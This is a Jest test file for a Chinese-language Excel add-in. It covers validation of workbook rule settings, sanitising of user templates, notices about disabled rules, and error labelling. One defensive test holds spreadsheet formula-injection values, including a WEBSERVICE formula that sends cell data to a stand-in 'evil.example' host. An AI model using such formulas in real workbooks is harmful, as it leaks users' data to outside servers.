/**
 * @jest-environment jsdom
 *
 * Issue 11: settings read from a received workbook are data, validated in one place. Corrupt ones are ignored
 * with a notice, never a crash; rules a workbook switches off are shown to whoever opens it, who can check with
 * the default rules instead; user templates cannot carry formulas or unbounded text into a sheet; only
 * programming errors are called internal errors.
 */
import '@testing-library/jest-dom';
import { screen, waitFor } from '@testing-library/react';
import { readOptions } from '../../src/core/options';
import { BUILTIN_TEMPLATES, buildTemplateSheet, readUserTemplates, TEMPLATE_LIMITS } from '../../src/core/templates';
import { explainError, loadOptions, OPTIONS_KEY } from '../../src/excel/actions';
import { insertTemplateSheet } from '../../src/excel/insertTemplate';
import { clearMarks, RECORD_KEY } from '../../src/excel/marks';
import { loadUserTemplates } from '../../src/excel/userTemplates';
import { hostSupport, validateWorkbook } from '../../src/excel/validate';
import { ExcelHost, HostError, type RequestContext } from '../../src/host/excel';
import { DEFAULT_RULES_KEY } from '../../src/taskpane/useSettings';
import { renderPane } from '../helpers/pane';
import { seedBook } from '../helpers/seed';

const ctx = (c: RequestContext) => c as unknown as Excel.RequestContext;
const validate = (host: ExcelHost) => host.run((c) => validateWorkbook(ctx(c), 'all', {}, hostSupport((n, v) => host.isSetSupported(n, v))));

function hostWithSettings(settings: Record<string, unknown>): ExcelHost {
  const book = seedBook();
  book.settings = settings;
  return new ExcelHost(book);
}

describe('one validator for rule settings', () => {
  test('the valid parts are kept, each invalid part is named', () => {
    const { options, problems } = readOptions({ satisfactionMin: 85, rules: { 'SAT-001': 'off', 'SAT-002': 'fatal', 'NO-999': true }, layout: 'x', evil: 1 });
    expect(options).toEqual({ satisfactionMin: 85, rules: { 'SAT-001': 'off' } });
    expect(problems).toHaveLength(4);
    expect(problems.join('\n')).toMatch(/SAT-002[\s\S]*NO-999[\s\S]*layout[\s\S]*evil/);
  });

  test.each([
    ['not JSON', '{"rules": '],
    ['an array', '[1,2]'],
    ['a bogus severity', JSON.stringify({ rules: { 'SAT-001': { severity: 'fatal' } } })],
  ])('a workbook whose goalsheet.options is %s: loaded with a problem, validation runs with what is valid', async (_, value) => {
    const host = hostWithSettings({ [OPTIONS_KEY]: value });
    const read = await host.run((c) => loadOptions(ctx(c)));
    expect(read.problems.length).toBe(1);
    const result = await host.run((c) => validateWorkbook(ctx(c), 'all', read.options ?? {}, hostSupport((n, v) => host.isSetSupported(n, v))));
    expect(result.findings.some((f) => f.ruleId === 'SAT-001')).toBe(true);
  });

  test.each([
    ['not JSON', '{'],
    ['the wrong shape', JSON.stringify({ version: 2, notes: 'x' })],
    ['notes that are not strings', JSON.stringify({ version: 2, notes: [1, { a: 1 }] })],
  ])('a goalsheet.marks record that is %s breaks neither validate nor clear', async (_, value) => {
    const host = hostWithSettings({ [RECORD_KEY]: value });
    await expect(validate(host)).resolves.toBeDefined();
    await expect(host.run((c) => clearMarks(ctx(c), true))).resolves.toBeDefined();
  });
});

describe('user templates from a received workbook', () => {
  const template = { ...BUILTIN_TEMPLATES[0], id: 'user-x', custom: true };

  test('oversized titles, too many rows, wrong types and non-templates are left out; only known fields kept', () => {
    const huge = { ...template, title: { zh: '题'.repeat(200_000), en: 'x' } };
    const many = { ...template, id: 'user-y', rows: Array.from({ length: TEMPLATE_LIMITS.rows + 1 }, () => template.rows[0]) };
    const extra = { ...template, id: 'user-z', onload: 'x', rows: template.rows.map((r) => ({ ...r, style: 'evil' })) };
    const { templates, dropped } = readUserTemplates([huge, many, 'x', extra]);
    expect(templates.map((t) => t.id)).toEqual(['user-z']);
    expect(dropped).toBe(3);
    expect(Object.keys(templates[0]).sort()).toEqual(['custom', 'goalExample', 'id', 'rows', 'summary', 'title', 'useExample']);
    expect(templates[0].rows.every((r) => !('style' in r))).toBe(true);
  });

  test('a setting that is not JSON gives no templates, not a broken pane', async () => {
    const host = hostWithSettings({ 'goalsheet.templates': '[{' });
    await expect(host.run((c) => loadUserTemplates(ctx(c)))).resolves.toEqual([]);
  });

  test('a row value "=WEBSERVICE(…)" is inserted as text, never a formula', async () => {
    const evil = { ...template, rows: template.rows.map((r, i) => (i === 0 ? { ...r, l3: '=WEBSERVICE("http://evil.example/?"&A1)', value: '+1+1', desc: '@SUM(1)' } : r)) };
    const [read] = readUserTemplates([evil]).templates;
    const host = new ExcelHost(seedBook());
    await host.run((c) => insertTemplateSheet(ctx(c), buildTemplateSheet(read, {}), '新表'));
    const cells = Object.values(host.sheet('新表')!.cells);
    expect(cells.some((c) => c.error)).toBe(false);
    expect(cells.map((c) => c.value)).toEqual(expect.arrayContaining(['=WEBSERVICE("http://evil.example/?"&A1)', '@SUM(1)']));
  });
});

describe('the pane shows what a workbook\'s settings switch off, and a reviewer can check with the default rules', () => {
  beforeEach(() => localStorage.clear());

  test('a notice names the rules; "按默认规则检查" brings their findings back and is remembered on this computer', async () => {
    const host = hostWithSettings({ [OPTIONS_KEY]: JSON.stringify({ rules: { 'SAT-001': 'off', 'PLAN-004': false } }) });
    const { user } = renderPane(host);
    const notice = await screen.findByTestId('weakened');
    expect(notice).toHaveTextContent('本工作簿的规则设置关闭或降低了 2 条规则（SAT-001、PLAN-004）');
    await user.click(screen.getByRole('button', { name: '校验整个工作簿' }));
    await waitFor(() => expect(screen.getByTestId('summary')).toBeInTheDocument());
    const milder = screen.getByTestId('summary').textContent;
    expect(screen.queryAllByText(/· SAT-001/)).toEqual([]);
    await user.click(screen.getByRole('button', { name: '按默认规则检查' }));
    expect(localStorage.getItem(DEFAULT_RULES_KEY)).toBe('1');
    expect(await screen.findByText(/正按默认规则检查/)).toBeInTheDocument();
    await user.click(screen.getByRole('button', { name: '校验整个工作簿' }));
    await waitFor(() => expect(screen.getByTestId('summary').textContent).not.toBe(milder), { timeout: 10_000 });
    expect(screen.getByTestId('summary')).toHaveTextContent('共 11 张表：错误 10，警告 6，提示 13');
  });

  test('invalid parts of the settings are named in a notice; the pane works', async () => {
    const host = hostWithSettings({ [OPTIONS_KEY]: JSON.stringify({ satisfactionMin: 'lots' }) });
    renderPane(host);
    expect(await screen.findByText(/本工作簿中的规则设置有 1 处无效，已忽略/)).toBeInTheDocument();
  });
});

test('only what Office.js raises is called Excel\'s error; a programming error is an internal error with details to copy', () => {
  const excel = explainError(new HostError('GeneralException', 'boom'));
  expect(excel[0]).toBe('Excel 报告了一个错误（GeneralException）。请重试。');
  const ours = explainError(new TypeError("Cannot read properties of undefined (reading 'cells')"));
  expect(ours[0]).toMatch(/^内部错误：这是本加载项的问题/);
  expect(ours[0]).toContain("TypeError: Cannot read properties of undefined (reading 'cells')");
  expect(ours[1]).toMatch(/^Internal error/);
  // A plain object with a code but no debugInfo is not Excel's either.
  expect(explainError({ code: 'Whatever' })[0]).toMatch(/^内部错误/);
});
